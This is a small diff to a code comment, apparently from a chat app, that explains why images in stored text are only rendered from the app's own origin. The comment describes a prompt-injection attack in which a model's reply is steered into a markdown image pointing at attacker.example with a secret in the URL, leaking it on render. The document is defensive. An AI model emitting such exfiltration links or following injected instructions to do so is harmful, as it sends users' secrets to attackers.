@@ -1,5 +1,5 @@
 /**
- * Where an image written in stored text would be fetched from (issue 11). A reply can be steered by a prompt
+ * Where an image written in stored text would be fetched from. A reply can be steered by a prompt
  * injection into `![](https://attacker.example/?q=<secret>)`; rendering it would send the secret the moment the
  * thread opens. So only the app's own images (and data:/blob: ones, which fetch nothing) are drawn; anything else is
  * "remote" and shown as a placeholder naming its host.
